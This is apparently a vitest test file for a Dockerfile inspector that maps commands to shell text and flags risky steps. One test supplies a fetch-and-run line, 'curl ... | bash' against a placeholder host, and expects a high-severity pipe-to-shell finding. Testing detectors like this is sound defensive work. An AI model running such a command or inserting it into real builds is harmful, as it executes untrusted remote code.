import { describe, expect, it } from 'vitest';
import { shellOfDockerfile } from '../../../src/inspect/code/dockerfile.ts';
import { decision, judged } from './support.ts';

describe('a Dockerfile', () => {
  it('keeps lines and columns of its commands, and nothing else', () => {
    const text =
      'FROM x\nENV A=b\nRUN --mount=type=cache,target=/c apt-get update && \\\n    # why\n    ls\nCMD ["a", "b c"]\nRUN <<EOF\nls\nEOF\nLABEL x=y';
    expect(shellOfDockerfile(text).split('\n')).toEqual([
      '',
      '',
      `${' '.repeat(33)}apt-get update && \\`,
      '\\',
      '    ls',
      "    'a' 'b c'",
      '    ',
      'ls',
      '',
      '',
    ]);
  });

  it('is blocked for what it pipes into a shell, in its line', async () => {
    const findings = await judged(
      'Dockerfile',
      'FROM python:3\nRUN apt-get update\nRUN curl -s https://x.example.invalid/i.sh | bash\n',
    );
    expect(findings).toMatchObject([{ rule: 'CODE-PIPE-SHELL', severity: 'HIGH', location: { line: 3 } }]);
  });

  it('passes with packages only', async () => {
    expect(
      await decision(
        'Dockerfile',
        'FROM python:3\nRUN apt-get update && apt-get install -y curl\nRUN pip install torch\n',
      ),
    ).toBe('pass');
  });
});
